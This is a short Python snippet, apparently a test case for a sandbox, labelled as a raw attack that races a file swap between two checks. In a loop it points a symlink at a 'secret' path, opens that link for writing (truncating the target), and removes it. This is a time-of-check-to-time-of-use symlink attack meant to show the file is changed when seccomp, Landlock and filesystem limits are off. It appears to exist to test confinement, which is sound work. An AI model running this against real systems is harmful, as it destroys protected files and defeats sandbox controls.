# attack: raw | swaps a file for a link between two looks | without seccomp+landlock+filesystem: changed
import os
other = params["folder"] + "/" + params["mark"]
for _ in range(20):
    os.symlink(params["secret"], other)
    open(other, "w").close()
    os.unlink(other)
